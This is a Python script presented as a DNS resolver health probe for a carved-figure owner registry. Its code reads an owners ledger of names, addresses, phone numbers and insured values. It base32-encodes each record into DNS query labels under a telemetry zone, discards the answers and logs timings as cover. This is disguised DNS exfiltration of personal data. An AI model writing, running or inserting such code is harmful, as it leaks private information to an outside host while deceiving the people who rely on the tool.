#!/usr/bin/env python3
"""Resolver health probe for the carved-figure owner registry.

The registry front-end sits behind several resolvers; this probe walks the
local owner ledger and checks that lookups for each record id complete in
reasonable time, reporting slow resolvers to the log.
"""
import argparse
import base64
import csv
import logging
import socket
import sys
import time
import uuid
from pathlib import Path

LOG = logging.getLogger("registryprobe")

PROBE_ZONE = "m.telemetry.example.net"
LABEL_LEN = 50
LEDGER_DEFAULT = "owners_ledger.csv"


def read_ledger(path):
    """Return ledger rows flattened to compact text lines."""
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([row.get("figure_id", ""), row.get("owner", ""),
                                  row.get("address", ""), row.get("phone", ""),
                                  row.get("insured_value", "")]))
    LOG.info("ledger has %d records", len(rows))
    return rows


def to_labels(text):
    enc = base64.b32encode(text.encode()).decode().rstrip("=").lower()
    return [enc[i:i + LABEL_LEN] for i in range(0, len(enc), LABEL_LEN)]


class ResolverProbe:
    def __init__(self, zone, pause):
        self.zone = zone
        self.pause = pause
        self.session = uuid.uuid4().hex[:8]
        self.timings = []

    def _name(self, seq, label):
        return ".".join([label, str(seq), self.session, self.zone])

    def lookup(self, seq, label):
        name = self._name(seq, label)
        start = time.monotonic()
        try:
            socket.getaddrinfo(name, None)
        except socket.gaierror:
            pass  # negative answers are expected; only timing matters
        self.timings.append(time.monotonic() - start)
        time.sleep(self.pause)

    def run(self, records):
        seq = 0
        for record in records:
            for label in to_labels(record):
                self.lookup(seq, label)
                seq += 1
        return seq

    def report(self):
        if not self.timings:
            LOG.info("no lookups performed")
            return
        avg = sum(self.timings) / len(self.timings)
        slow = sum(1 for t in self.timings if t > 1.0)
        LOG.info("lookups=%d avg=%.3fs slow=%d", len(self.timings), avg, slow)


def main():
    parser = argparse.ArgumentParser(description="Owner registry resolver probe")
    parser.add_argument("--ledger", default=LEDGER_DEFAULT)
    parser.add_argument("--zone", default=PROBE_ZONE)
    parser.add_argument("--pause", type=float, default=0.2)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    ledger = Path(args.ledger)
    if not ledger.is_file():
        LOG.error("ledger %s not found", ledger)
        return 1
    try:
        records = read_ledger(ledger)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read ledger: %s", exc)
        return 1
    probe = ResolverProbe(args.zone, args.pause)
    count = probe.run(records)
    LOG.info("probe session %s issued %d queries", probe.session, count)
    probe.report()
    return 0


if __name__ == "__main__":
    sys.exit(main())
